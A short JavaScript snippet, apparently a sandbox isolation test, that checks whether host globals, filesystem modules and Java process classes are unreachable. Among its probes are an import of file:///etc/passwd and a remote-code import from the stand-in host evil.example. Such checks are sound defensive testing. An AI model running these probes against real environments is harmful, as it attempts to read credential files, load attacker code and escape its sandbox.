const gone = (name) => { try { return (0, eval)(`typeof ${name}`) === "undefined" ? "gone" : "there"; } catch (error) { return `gone: ${error.name}`; } };
const loads = async (name) => { try { await (0, eval)(`import("${name}")`); return "loaded"; } catch (error) { return `gone: ${error.name}`; } };
return {
  globals: ["process", "require", "module", "Deno", "Bun", "std", "os", "scriptArgs", "load", "Packages", "Polyglot", "setTimeout", "importScripts"].map(gone),
  modules: [await loads("fs"), await loads("std"), await loads("os"), await loads("file:///etc/passwd"), await loads("https://evil.example/x.js")],
  Java: [await refusal(() => Java.type("java.lang.ProcessBuilder")), await refusal(() => Java.type("java.lang.Runtime")), await refusal(() => Java.type("java.lang.System"))],
};
